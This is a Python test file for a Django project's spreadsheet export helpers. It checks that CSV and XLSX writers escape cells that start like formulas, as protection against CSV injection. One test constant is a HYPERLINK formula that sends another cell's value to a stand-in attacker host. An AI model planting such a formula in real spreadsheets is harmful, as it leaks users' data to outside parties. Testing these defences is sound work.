"""Cells a spreadsheet reads as data, never as formulas (OWASP, "CSV Injection"): the rule, its
inverse for files that come back, and the CSV and XLSX writers read back with csv and openpyxl."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
import tablib
from django.utils.translation import gettext_lazy
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from common.exports import (
    FORMULA_STARTS,
    FormulaSafeResourceMixin,
    cell_restored,
    cell_safe,
    rows_csv,
    rows_xlsx,
)

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B2,"ดูผล")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (HYPERLINK, f"'{HYPERLINK}"),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("- ผ่านเกณฑ์ทุกข้อ", "'- ผ่านเกณฑ์ทุกข้อ"),  # a bullet: text, but a spreadsheet would not know
        ("-", "'-"),
        ("-1e3", "'-1e3"),  # not a plain number
        ("-๑", "'-๑"),  # Thai digits are not a spreadsheet's number
        ("กรมทางหลวง", "กรมทางหลวง"),
        ("A=B", "A=B"),
        (" =1+1", " =1+1"),  # a leading space: text to a spreadsheet
        ("'=1+1", "'=1+1"),  # already escaped: not twice
        ("", ""),
    ],
)
def test_cell_safe_writes_text_that_starts_like_a_formula_behind_an_apostrophe(text, written):
    assert cell_safe(text) == written


@pytest.mark.parametrize("text", ["-0.40", "+0.40", "-12", "12.5", "-.5", "−0.40"])
def test_cell_safe_leaves_text_that_is_a_plain_number_alone(text):
    # A score difference written as text must still read as a number; −0.40 (U+2212) starts
    # no formula at all.
    assert cell_safe(text) == text


@pytest.mark.parametrize(
    "value",
    [Decimal("-0.40"), -3, -2.5, 0, None, True, date(2025, 1, 31), datetime(2025, 1, 31, 9, 30)],
)
def test_cell_safe_leaves_numbers_and_dates_as_they_are(value):
    assert cell_safe(value) is value


def test_cell_safe_treats_a_lazy_translation_as_text():
    assert cell_safe(gettext_lazy("-1+2")) == "'-1+2"


@given(st.text())
def test_cell_restored_gives_back_what_cell_safe_was_given(text):
    # Except a text that itself starts with the apostrophe before = + - @, tab or CR (documented).
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return
    assert cell_restored(cell_safe(text)) == text


@given(st.text())
def test_cell_safe_is_idempotent(text):
    assert cell_safe(cell_safe(text)) == cell_safe(text)


def test_rows_csv_is_utf8_with_a_bom_and_escapes_every_text_cell():
    content = rows_csv(
        ["ชื่อ", "@header", "change", "score"],
        [[HYPERLINK, "-2+3", Decimal("-0.40"), Decimal("92.50")], ["กรม", None, "-0.40", 7]],
    )

    assert content.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(content.decode("utf-8-sig")))) == [
        ["ชื่อ", "'@header", "change", "score"],
        [f"'{HYPERLINK}", "'-2+3", "-0.40", "92.50"],
        ["กรม", "", "-0.40", "7"],
    ]


def test_rows_xlsx_holds_text_as_text_and_numbers_as_numbers():
    content = rows_xlsx(
        ["name", "@header", "change"],
        [[HYPERLINK, "\t=1+1", Decimal("-0.40")], ["กรม", "-0.40", -3]],
        sheet_title="2568",
        widths=(40, 12),
    )

    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.title == "2568"
    assert [[(cell.data_type, cell.value) for cell in row] for row in sheet.iter_rows()] == [
        [("s", "name"), ("s", "'@header"), ("s", "change")],
        [("s", f"'{HYPERLINK}"), ("s", "'\t=1+1"), ("n", -0.4)],
        [("s", "กรม"), ("s", "-0.40"), ("n", -3)],
    ]
    assert sheet["C2"].number_format == "0.00"
    assert (sheet.column_dimensions["A"].width, sheet.freeze_panes) == (40, "A2")


class _Exported:
    """The part of a django-import-export resource the mixin builds on."""

    imported = None

    def export(self, queryset=None, **kwargs):
        return tablib.Dataset([HYPERLINK, Decimal("-0.40"), "-0.40"], headers=["=name", "a", "b"])

    def import_data(self, dataset, *args, **kwargs):
        self.imported = dataset
        return dataset


class _SafeResource(FormulaSafeResourceMixin, _Exported):
    pass


def test_resource_mixin_escapes_the_export_and_restores_the_import():
    resource = _SafeResource()

    exported = resource.export()
    resource.import_data(exported, dry_run=True)

    assert (exported.headers, list(exported)) == (
        ["'=name", "a", "b"],
        [(f"'{HYPERLINK}", Decimal("-0.40"), "-0.40")],
    )
    assert (resource.imported.headers, list(resource.imported)) == (
        ["=name", "a", "b"],
        [(HYPERLINK, Decimal("-0.40"), "-0.40")],
    )
